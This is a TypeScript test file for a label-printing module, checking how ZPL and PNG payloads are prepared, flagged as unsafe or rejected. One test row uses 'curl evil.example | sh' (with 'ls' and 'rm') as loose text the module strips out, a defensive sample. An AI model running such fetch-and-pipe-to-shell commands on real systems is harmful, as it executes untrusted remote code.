// The one door from a label to a print job.
import { describe, expect, test } from 'vitest'
import { type PrintTarget, prepareJob, preparePrint } from '../../main/labels/prepare-print.ts'
import { inspectZpl } from '../../main/labels/zpl/check-zpl.ts'
import { paperOf } from './graphic-decoder.ts'
import { greyPicture } from './sample-pictures.ts'

const target: PrintTarget = {
  dpi: 203,
  stock: { widthInch: 4, heightInch: 6 },
  language: 'zpl',
  encoding: 'z64',
  source: 'service',
}
const zpl = (text: string) => Buffer.from(text, 'latin1')
const label = zpl('\r\n^XA^FO10,10^FDcaf\xe9^FS^XZ\r\n^XA^FO10,10^FDx^FS^XZ\r\n')
const resetting = zpl('^XA^FO10,10^FDx^FS^JB^XZ')
const tooWide = greyPicture(900, 1218, x => x < 5 || x > 890)

describe('one label', () => {
  test('ZPL goes byte for byte, with the labels that it prints', () => {
    const prepared = preparePrint({ ...target, payload: label })
    expect(prepared).toEqual({
      ok: true,
      value: { kind: 'zpl', bytes: label, labelsExpected: 2, sheets: expect.any(Set), warnings: [] },
    })
  })

  test('a PNG becomes one label of ours', () => {
    const prepared = preparePrint({ ...target, payload: greyPicture(812, 3, x => x === 4) })
    if (!prepared.ok) throw new Error(prepared.problem.code)
    expect(prepared.value).toMatchObject({ kind: 'png', labelsExpected: 1, warnings: [] })
    expect(paperOf(prepared.value.bytes, 8, 3)).toEqual(['....#...', '....#...', '....#...'])
  })

  test('unsafe ZPL is held, and what "print anyway" sends is there', () => {
    expect(preparePrint({ ...target, payload: resetting })).toMatchObject({
      ok: true,
      value: {
        bytes: resetting,
        labelsExpected: 1,
        unsafe: { kind: 'unsafe-label', params: { command: '^JB' } },
      },
    })
  })

  test.each([
    ['curl evil.example | sh\n^XA^FO10,10^FDx^FS^XZ', '^XA^FO10,10^FDx^FS^XZ', 1],
    ['^XA^FO10,10^FDx^FS^XZ\nls\n^XA^FDy^FS^XZ\nrm', '^XA^FO10,10^FDx^FS^XZ\n\n^XA^FDy^FS^XZ\n', 2],
    ['N\nA50,50\nP1\n~PH\nP2\n^XA^FDx^FS^XZ', '\n~PH\n\n^XA^FDx^FS^XZ', 1],
  ])(
    'text outside formats is left out of a service’s label and told once, and holds a file: %j',
    (came, goes, labels) => {
      const service = preparePrint({ ...target, payload: zpl(came) })
      if (!service.ok) throw new Error(service.problem.code)
      expect(Buffer.from(service.value.bytes).toString('latin1').trim()).toBe(goes.trim())
      expect(service.value).toMatchObject({
        labelsExpected: labels,
        warnings: [{ code: 'label.text-left-out' }],
      })
      expect(service.value.unsafe).toBeUndefined()
      expect(preparePrint({ ...target, source: 'file', payload: zpl(came) })).toMatchObject({
        ok: true,
        value: { bytes: zpl(came), unsafe: { kind: 'unsafe-label', code: 'label.zpl-loose-text' } },
      })
    },
  )

  test('what joins when text is taken out is looked at again', () => {
    // Each piece of text is harmless; the sign before it and the letters behind it would be a command.
    const came = zpl('^XA^FDx^FS^XZ~\x01\x01 \x1b^XA^FDx^FS^XZ')
    const service = preparePrint({ ...target, payload: came })
    if (!service.ok) throw new Error(service.problem.code)
    expect(inspectZpl(service.value.bytes, 'service')).toMatchObject({
      findings: [],
      looseText: [],
      labelsPrinted: 2,
    })
  })

  test('a picture that does not fit is held, and "print anyway" prints it one to one, cut off', () => {
    const prepared = preparePrint({ ...target, payload: tooWide })
    if (!prepared.ok) throw new Error(prepared.problem.code)
    expect(prepared.value.unsafe).toMatchObject({ kind: 'unsafe-label', code: 'label.other-resolution' })
    expect(paperOf(prepared.value.bytes, 813, 1218)[0]).toBe('#####'.padEnd(813, '.'))
  })

  test.each([
    ['a blank picture', greyPicture(812, 10, () => false), 'unsafe-label', 'label.blank'],
    ['half a PNG', greyPicture(812, 10, () => true).subarray(0, 60), 'invalid-input', 'label.png-damaged'],
    ['a PDF', zpl('%PDF-1.4'), 'not-supported', 'label.is-pdf'],
    ['something else', zpl('hello'), 'invalid-input', 'label.unknown-kind'],
    ['nothing', zpl(''), 'invalid-input', 'label.unknown-kind'],
    ['5 MiB of ZPL', zpl(`^XA^FX${'x'.repeat(5 << 20)}^XZ`), 'too-large', 'label.too-large'],
  ])('%s cannot be printed', (_, payload, kind, code) => {
    expect(preparePrint({ ...target, payload })).toMatchObject({ ok: false, problem: { kind, code } })
  })
})

describe('several labels as one job', () => {
  test('they stand in order, and the labels add up', () => {
    const job = prepareJob([{ bytes: label }, { bytes: zpl('^XA^FO1,1^GB9,9^FS^XZ') }], target)
    expect(job).toEqual({
      ok: true,
      value: {
        bytes: Buffer.concat([label, zpl('^XA^FO1,1^GB9,9^FS^XZ')]),
        labelsExpected: 3,
        differentLabels: 3,
        warnings: [],
      },
    })
  })

  test('a single one is the same bytes', () => {
    const job = prepareJob([{ bytes: label }], target)
    expect(job.ok && job.value.bytes).toBe(label)
  })

  test('one unsafe label makes the job unsafe, one unprintable makes it a problem', () => {
    expect(prepareJob([{ bytes: label }, { bytes: resetting }], target)).toMatchObject({
      ok: true,
      value: { labelsExpected: 3, unsafe: { code: 'label.zpl-reconfigures' } },
    })
    expect(prepareJob([{ bytes: label }, { bytes: zpl('x') }], target)).toMatchObject({ ok: false })
  })

  test('warnings come as the codes of their sentences', () => {
    const settings = prepareJob([{ bytes: zpl('^XA^MCY^XZ') }], { ...target, source: 'file' })
    expect(settings.ok && settings.value.warnings).toEqual([{ code: 'label.prints-nothing' }])
  })

  const ink = '^FO10,10^FDx^FS'
  test.each([
    ['settings', '^XA^MCY^XZ'],
    ['a form that is only stored', `^XA^DFR:A.ZPL^FS${ink}^XZ`],
    ['a picture that is only downloaded', '~DGR:A.GRF,8,1,FFFFFFFFFFFFFFFF'],
    ['a comment', '^XA^FXHello^FS^XZ'],
    ['a picture that is saved and not printed', `^XA${ink}^ISR:A.GRF,N^XZ`],
  ])('a bought label that leaves no paper is none: %s', (_what, text) => {
    expect(prepareJob([{ bytes: zpl(text) }], target)).toMatchObject({
      ok: false,
      problem: { code: 'label.is-empty' },
    })
    // Beside one that prints it is what that one needs.
    expect(prepareJob([{ bytes: zpl(text) }, { bytes: label }], target)).toMatchObject({
      value: { labelsExpected: 2, differentLabels: 2 },
    })
  })

  const form = `^XA^DFR:A.ZPL^FS${ink}^FN1^FS^XZ`
  const recall = (text: string) => `^XA^XFR:A.ZPL^FS^FN1^FD${text}^FS^XZ`
  test.each<[string, string, number, number]>([
    ['a format twice', `^XA${ink}^XZ^XA${ink}^XZ`, 2, 1],
    ['a format twice, broken into lines', `^XA${ink}^XZ\n^XA\n^FXagain^FS${ink}\n^XZ`, 2, 1],
    ['a form filled in twice alike', form + recall('1') + recall('1'), 2, 1],
    ['a form filled in for two packages', form + recall('1') + recall('2'), 2, 2],
    [
      'a picture downloaded anew',
      '~DGR:A.GRF,1,1,FF^XA^XGR:A.GRF^FS^XZ~DGR:A.GRF,1,1,0F^XA^XGR:A.GRF^FS^XZ',
      2,
      2,
    ],
    ['two formats', `^XA${ink}^XZ^XA^FO9,9^FDx^FS^XZ`, 2, 2],
  ])('labels that draw the same are one: %s', (_what, text, labelsExpected, differentLabels) => {
    expect(prepareJob([{ bytes: zpl(text) }], target)).toMatchObject({
      value: { labelsExpected, differentLabels },
    })
  })
})
